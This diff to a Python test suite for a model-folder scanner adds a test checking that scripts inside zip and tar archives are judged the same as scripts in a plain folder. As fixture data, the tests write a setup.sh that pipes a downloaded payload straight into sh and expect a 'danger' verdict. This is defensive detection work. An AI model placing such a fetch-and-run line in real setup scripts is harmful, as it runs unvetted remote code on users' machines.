@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shutil
 import time
 from pathlib import Path
 
@@ -73,3 +74,16 @@ def test_a_script_beside_a_model_is_inert_until_it_does_harm(tmp_path: Path) -> 
     assert {f.path for f in report.files if f.inert} == {"setup.sh", "requirements.txt"}
     (tmp_path / "setup.sh").write_text(f"#!/bin/sh\n{GET} | sh\n")
     assert nbguard.scan(str(tmp_path)).verdict.word == "danger"
+
+
+@pytest.mark.parametrize("packed", ["zip", "tar"])
+def test_in_an_archive_a_script_weighs_as_in_a_folder(packed: str, tmp_path: Path) -> None:
+    folder = tmp_path / "m"
+    folder.mkdir()
+    (folder / "setup.sh").write_text("#!/bin/sh\npip install torch\n")
+    (folder / "notes.txt").write_text("hello\n")
+    shutil.make_archive(str(tmp_path / "m"), packed, folder)
+    assert nbguard.scan(str(tmp_path / f"m.{packed}")).verdict.word == "safe"
+    (folder / "setup.sh").write_text(f"#!/bin/sh\n{GET} | sh\n")
+    shutil.make_archive(str(tmp_path / "m"), packed, folder)
+    assert nbguard.scan(str(tmp_path / f"m.{packed}")).verdict.word == "danger"
